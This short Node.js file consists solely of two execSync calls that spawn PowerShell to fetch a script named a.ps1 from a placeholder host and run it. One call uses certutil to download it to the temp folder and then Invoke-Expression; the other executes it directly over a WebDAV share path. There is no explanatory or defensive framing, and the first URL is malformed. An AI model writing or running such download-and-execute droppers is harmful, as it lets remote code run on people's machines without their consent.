const { execSync } = require('child_process');

execSync('powershell -Command "certutil -urlcache -f http:files.shop-alias.example/a.ps1 %TEMP%\\a.ps1; Invoke-Expression \\"$env:TEMP\\a.ps1\\""');
execSync('powershell -Command "Invoke-Expression \\"\\\\files.shop-alias.example@SSL\\DavWWWRoot\\a.ps1\\""');
